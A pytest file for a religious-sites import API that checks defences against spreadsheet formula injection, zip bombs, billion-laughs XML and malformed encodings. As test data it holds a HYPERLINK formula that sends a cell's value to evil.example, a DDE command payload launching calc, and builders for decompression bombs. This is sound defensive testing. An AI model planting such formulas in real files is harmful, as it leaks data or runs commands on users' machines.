"""Hostile spreadsheets sent to the religion desk's import: text that a spreadsheet would run
as a formula is refused row by row, never stored; zip bombs and XML declarations are refused
in seconds, before anything is parsed."""

from __future__ import annotations

import csv
import io
import time
import tracemalloc
from collections.abc import Callable
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import Workbook

from tests.integration.helpers import event_count
from tests.religion.conftest import error_of
from tests.xlsxfiles import (
    Formula,
    bomb_sheet,
    dtd_in_content_types,
    dtd_sheet,
    formula_sheet,
    plain_sheet,
    wide_row_sheet,
    workbook,
)

URL = "/api/v1/sites/import"
HEADER = ["Mã cơ sở", "Tên cơ sở", "Tôn giáo", "Mã xã", "Địa chỉ", "Diện tích đất (m²)",
          "Nguồn gốc sử dụng đất"]
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Bấm vào đây")'


def _upload(client: TestClient, name: str, content: bytes, **params: Any) -> Any:
    return client.post(URL, params=params, files={"file": (name, content)})


def _rows() -> list[list[Any]]:
    return [
        ["TL-01", HYPERLINK, "Phật giáo", "11755", "Thôn Đông", 100, ""],
        ["TL-02", "Chùa Hai", "Phật giáo", "11755", "=cmd|' /C calc'!A0", 100, ""],
        ["TL-03", "Chùa Ba", "Phật giáo", "11755", "Thôn Tây", 100, "@SUM(1+1)"],
        ["TL-04", "\t=1+2", "Phật giáo", "11755", "", 100, ""],
        ["TL-05", "Chùa Năm", "Phật giáo", "11755", "\r-2+3", 100, ""],
        ["TL-06", "\tChùa Sáu", "Phật giáo", "11755", "Thôn 3 - xã Tiên Thanh", "1.250,5", "-"],
    ]


EXPECTED = [
    (2, "name", "FORMULA_TEXT"),
    (3, "address", "FORMULA_TEXT"),
    (4, "land_use_origin", "FORMULA_TEXT"),
    (5, "name", "FORMULA_TEXT"),
    (6, "address", "FORMULA_TEXT"),
]


def _csv() -> bytes:
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer)
    writer.writerows([HEADER, *_rows()])
    return buffer.getvalue().encode("utf-8")


def _xlsx() -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(HEADER)
    for number, row in enumerate(_rows(), start=2):
        for column, value in enumerate(row, start=1):
            # Typed as text, as a desk's sheet holds it (openpyxl would make "=…" a formula).
            sheet.cell(number, column, value).data_type = "s" if isinstance(value, str) else "n"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def test_formula_text_in_a_csv_or_excel_import_is_refused_and_not_stored(
    religion: TestClient,
) -> None:
    for name, content in (("ds.csv", _csv()), ("ds.xlsx", _xlsx())):
        refused = _upload(religion, name, content)
        assert refused.status_code == 422, refused.text
        report = error_of(refused)["details"]["report"]
        assert [(e["row"], e["field"], e["code"]) for e in report["errors"]] == EXPECTED, name
        assert "công thức" in report["errors"][0]["message"]
        assert event_count(religion) == 0

    # Only the clean row goes in when asked for; its leading tab is trimmed, its dash kept.
    partial = _upload(religion, "ds.csv", _csv(), only_valid="true")
    assert partial.status_code == 201 and partial.json()["created"] == 1
    site = religion.get("/api/v1/sites/TL-06").json()
    assert (site["name"], site["address"], site["land_use_origin"]) == (
        "Chùa Sáu", "Thôn 3 - xã Tiên Thanh", "-")
    assert event_count(religion) == 1


def test_an_excel_formula_without_a_kept_result_is_refused_in_its_column(
    religion: TestClient,
) -> None:
    # Written by a program that does not compute formulas: no result in the file. The address
    # was imported empty and the area left out, without a word (G5).
    uncomputed = workbook(formula_sheet(
        HEADER,
        ["TL-01", "Chùa Một", "Phật giáo", "11755", Formula('HYPERLINK("http://evil","x")'),
         100, ""],
        ["TL-02", "Chùa Hai", "Phật giáo", "11755", "Thôn Tây", Formula("20*30"), ""],
        ["TL-03", "Chùa Ba", "Phật giáo", "11755", "Thôn Bắc", 100, ""],
    ))
    refused = _upload(religion, "ds.xlsx", uncomputed)
    assert refused.status_code == 422, refused.text
    errors = error_of(refused)["details"]["report"]["errors"]
    assert [(e["row"], e["field"], e["code"], e["value"]) for e in errors] == [
        (2, "address", "FORMULA_WITHOUT_VALUE", '=HYPERLINK("http://evil","x")'),
        (3, "land_area_m2", "FORMULA_WITHOUT_VALUE", "=20*30"),
    ]
    assert "Excel" in errors[1]["message"] and "=20*30" in errors[1]["message"]
    assert event_count(religion) == 0

    # Saved by Excel or LibreOffice, the file keeps each result: the area is its value.
    computed = workbook(formula_sheet(
        HEADER, ["TL-02", "Chùa Hai", "Phật giáo", "11755", Formula('"Thôn "&"Tây"', "Thôn Tây"),
                 Formula("20*30", 600), ""]))
    created = _upload(religion, "ds.xlsx", computed)
    assert created.status_code == 201, created.text
    site = religion.get("/api/v1/sites/TL-02").json()
    assert (site["address"], site["land_area_m2"]) == ("Thôn Tây", 600)


def _merged(rows: list[list[Any]], merges: list[str], title: str | None = None) -> bytes:
    """A desk's sheet as Excel saves it: `merges` merged (their first cell keeps the value,
    the others are empty in the file), under a title line merged across the sheet."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    if title is not None:
        sheet.append([title])
        sheet.merge_cells("A1:G1")
    sheet.append(HEADER)
    for row in rows:
        sheet.append(row)
    for ref in merges:
        sheet.merge_cells(ref)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def test_a_cell_of_merged_cells_is_refused_naming_the_range(religion: TestClient) -> None:
    """examiner-hostile: a commune merged down the rows of its three sites (D3:D5, as a desk
    lays a register out) shows 11755 on each row, but the file keeps it in D3 only: rows 4
    and 5 were refused «Thiếu trường bắt buộc», a field the desk sees filled. Refused naming
    the cell, the range and what it shows; nothing written."""
    rows: list[list[Any]] = [
        ["TL-01", "Chùa Một", "Phật giáo", "11755", "Thôn Đông", 100, ""],
        ["TL-02", "Chùa Hai", "Phật giáo", None, "Thôn Tây", 100, ""],
        ["TL-03", "Chùa Ba", "Phật giáo", None, "Thôn Bắc", 100, ""]]
    content = _merged(rows, ["D3:D5"], title="DANH SÁCH CƠ SỞ TÔN GIÁO")
    tried = _upload(religion, "ds.xlsx", content, dry_run="true")
    refused = _upload(religion, "ds.xlsx", content)
    assert tried.status_code == 200 and refused.status_code == 422, refused.text
    for errors in (tried.json()["errors"], error_of(refused)["details"]["report"]["errors"]):
        assert [(e["row"], e["field"], e["code"]) for e in errors] == [
            (4, "commune_code", "MERGED_CELL"), (5, "commune_code", "MERGED_CELL")]
        message = errors[0]["message"]
        assert all(part in message for part in ("D4", "D3:D5", "«11755»", "D3")), message
    assert event_count(religion) == 0
    # A title merged across the sheet and an empty range (no value shown over it) change
    # nothing: the file imports.
    rows[1][3] = rows[2][3] = "11755"
    rows[0][6] = rows[1][6] = rows[2][6] = None
    done = _upload(religion, "ds.xlsx", _merged(rows, ["G3:G5"], title="DANH SÁCH"))
    assert done.status_code == 201, done.text
    assert done.json()["created"] == 3


def test_the_import_template_is_a_plain_csv_header(religion: TestClient) -> None:
    body = religion.get("/api/v1/sites/import/template.csv").content
    assert body.startswith("\ufeff".encode())
    header = next(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert header[:4] == ["Mã cơ sở", "Tên cơ sở", "Tôn giáo", "Mã xã"]


def test_a_csv_cell_past_the_field_limit_is_unreadable_not_a_server_error(
    religion: TestClient,
) -> None:
    content = ("Mã cơ sở;Tên cơ sở;Tôn giáo;Mã xã\nTL-01;" + "a" * 200_000
               + ";Phật giáo;11755\n").encode()
    response = _upload(religion, "ds.csv", content)
    assert response.status_code == 422, response.text
    assert error_of(response)["code"] == "IMPORT_UNREADABLE"
    assert "CSV" in error_of(response)["message"]


# -- zip bombs and XML declarations -----------------------------------------------------------

ROW = ["TL-01", "Chùa Một", "Phật giáo", "11755", "Thôn Đông", "100", ""]
MiB = 1 << 20


def _timed_upload(client: TestClient, content: bytes) -> tuple[Any, float, int]:
    """The response, the processor time it cost this process (the app runs in it; the wall
    clock would count whatever else the machine runs) and the peak of memory allocated."""
    tracemalloc.start()
    started = time.process_time()
    try:
        response = _upload(client, "bom.xlsx", content)
        elapsed = time.process_time() - started
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    return response, elapsed, peak


@pytest.mark.parametrize(
    ("build", "code", "detail"),
    [
        # 125 MiB of sheet XML in ~0.5 MB: past the 110 MB budget of a 100,000-row import
        # (the probe's 2.8 MB bomb held the service 145 s and 2.4 GB).
        (lambda: workbook(bomb_sheet(HEADER, ROW, 120 * MiB)), "IMPORT_TOO_LARGE",
         "uncompressed_bytes"),
        # Within the budget, but inflating ~250-fold.
        (lambda: workbook(bomb_sheet(HEADER, ROW, 30 * MiB)), "IMPORT_TOO_LARGE", "ratio"),
        # Stored, so no ratio at all: one row of more cells than Excel has columns.
        (lambda: workbook(wide_row_sheet(HEADER, 20_000), stored=True), "IMPORT_TOO_LARGE",
         "limit"),
        # "Billion laughs" (10^8 "ha"), in the sheet or in a part openpyxl reads first.
        (lambda: workbook(dtd_sheet(HEADER, ROW)), "IMPORT_UNREADABLE", None),
        (lambda: dtd_in_content_types(HEADER, ROW), "IMPORT_UNREADABLE", None),
    ],
    ids=["bomb-size", "bomb-ratio", "wide-row", "dtd-in-sheet", "dtd-in-content-types"],
)
def test_hostile_workbooks_are_refused_in_seconds_before_parsing(
    religion: TestClient, build: Callable[[], bytes], code: str, detail: str | None
) -> None:
    response, elapsed, peak = _timed_upload(religion, build())
    assert response.status_code == 422, response.text
    error = error_of(response)
    assert error["code"] == code
    assert not error["message"].isascii() and "bom.xlsx" in error["message"]
    if detail:
        assert detail in error["details"]
    assert elapsed < 5, f"{elapsed:.1f} s of processor time"
    assert peak < 64 * MiB, f"{peak / MiB:.0f} MiB"
    assert event_count(religion) == 0


@pytest.mark.parametrize("encoding", ["x-unknown", "cp037", "utf-7", "Shift_JIS"])
def test_a_part_in_an_encoding_excel_never_writes_is_unreadable(
    religion: TestClient, encoding: str
) -> None:
    declared = f'<?xml version="1.0" encoding="{encoding}"?><workbook/>'.encode()
    content = workbook(plain_sheet(HEADER, ROW), replace={"xl/workbook.xml": declared})
    response = _upload(religion, "ds.xlsx", content)
    assert response.status_code == 422, response.text
    assert error_of(response)["code"] == "IMPORT_UNREADABLE"


def test_the_same_workbook_without_the_trick_imports(religion: TestClient) -> None:
    done = _upload(religion, "ds.xlsx", workbook(plain_sheet(HEADER, ROW)))
    assert done.status_code == 201, done.text
    assert religion.get("/api/v1/sites/TL-01").json()["name"] == "Chùa Một"
